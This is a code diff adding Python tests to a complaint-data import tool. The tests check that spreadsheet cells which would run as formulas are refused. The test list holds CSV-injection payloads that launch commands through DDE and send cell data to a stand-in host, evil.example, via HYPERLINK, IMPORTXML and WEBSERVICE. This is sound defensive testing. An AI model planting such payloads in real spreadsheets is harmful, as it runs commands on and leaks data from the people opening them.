@@ -215,3 +215,80 @@ def test_a_value_it_does_not_know_is_named_by_the_clerks_column_and_cell(
     assert "rekap.xlsx:3:4: error: Kategori (Aduan Maret!D3): kategori 'jalan rusakk'" in err
     assert "rekap.xlsx:3:5: error: Status (Aduan Maret!E3): status 'beres?'" in err
     assert "tanggal laporan" not in err and "error: status:" not in err
+
+
+# Payloads of CSV injection as published (OWASP "CSV Injection"; Google Sheets' IMPORTXML and
+# Excel's WEBSERVICE exfiltration), and cells that only look alike.
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
+    '=WEBSERVICE("http://evil.example/"&B2)',
+    "-HYPERLINK(1)",
+]
+PLAIN = ["-", "--", "T-001", "+62 812 3344 5566", "-5,5", "2026-03-02", "Laweyan", "1/2"]
+
+
+def test_formula_cells_are_told_apart_from_plain_ones():
+    from generator.opendata.cells import runs_as_formula
+
+    assert all(runs_as_formula(f) for f in FORMULAS)
+    assert not any(runs_as_formula(p) for p in PLAIN)
+
+
+def test_a_cell_a_spreadsheet_would_run_is_not_written_into_the_repository(
+    tmp_path, monkeypatch, capsys
+):
+    """data/complaints is public and opened in Excel as it is (the site's tables get a leading
+    apostrophe, the repository's files do not): the import refuses such cells, each at its own
+    cell, and writes nothing."""
+    monkeypatch.chdir(tmp_path)
+    make_data(tmp_path, {})
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Aduan"
+    sheet.append(
+        ["Nomor Tiket", "Tanggal Laporan", "Instansi Tujuan", "Judul", "Kecamatan", "Status"]
+    )
+    for i, formula in enumerate(FORMULAS):
+        # openpyxl writes a string starting with "=" as a formula: the export's own cell,
+        # as a clerk's workbook holds it, is read back as its text.
+        sheet.append(
+            [f"T-{i}", "02/03/2026 09:00", "Dinas Kesehatan", formula, "Laweyan", "Proses"]
+        )
+    sheet.append(
+        ["-2+3+cmd|' /C calc'!A0", "02/03/2026 09:00", "Dinkes", "Jalan", "@SUM(A1)", "Proses"]
+    )
+    sheet.append(["T-99", "02/03/2026 09:00", "Dinas Kesehatan", "- jalan rusak", "-", "Proses"])
+    book.save(tmp_path / "rekap.xlsx")
+    assert main(["import", "--format", "lapor", "rekap.xlsx", "--out", "y.csv"]) == 1
+    err = capsys.readouterr().err
+    for row, formula in enumerate(FORMULAS, start=2):
+        if formula[0] == "=":
+            continue  # a workbook's formula is read as its value (none here): never as text
+        assert f"rekap.xlsx:{row}:4: error: Judul (Aduan!D{row}): diawali '{formula[0]}'" in err
+    last = len(FORMULAS) + 2
+    assert f"rekap.xlsx:{last}:1: error: Nomor Tiket (Aduan!A{last}): diawali '-'" in err
+    assert f"rekap.xlsx:{last}:5: error: Kecamatan (Aduan!E{last}): diawali '@'" in err
+    assert f"rekap.xlsx:{last + 1}:4: error: Judul (Aduan!D{last + 1}): diawali '-'" in err
+    assert f":{last + 1}:5:" not in err  # a lone dash stands for nothing
+    assert err.count(": error: ") == sum(f[0] != "=" for f in FORMULAS) + 4  # the Kecamatan twice
+    assert not (tmp_path / "y.csv").exists()
+    # The same cells as a CSV export brings them: as text, formulas included.
+    with open("rekap.csv", "w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["Nomor Tiket", "Tanggal Laporan", "Instansi Tujuan", "Judul", "Status"])
+        for i, formula in enumerate(FORMULAS):
+            writer.writerow([f"T-{i}", "02/03/2026 09:00", "Dinas Kesehatan", formula, "Proses"])
+        writer.writerow(["T-99", "02/03/2026 09:00", "Dinas Kesehatan", "Jalan", "-"])
+    assert main(["import", "--format", "lapor", "rekap.csv", "--out", "y.csv"]) == 1
+    err = capsys.readouterr().err
+    for row, formula in enumerate(FORMULAS, start=2):
+        assert f"rekap.csv:{row}:4: error: Judul: diawali '{formula[0]}'" in err
+    # "-" is an empty cell: a status is required (not "status '-' tidak dikenal")
+    assert "rekap.csv:10:5: error: Status: wajib diisi" in err
+    assert err.count(": error: ") == len(FORMULAS) + 1
+    assert not (tmp_path / "y.csv").exists()
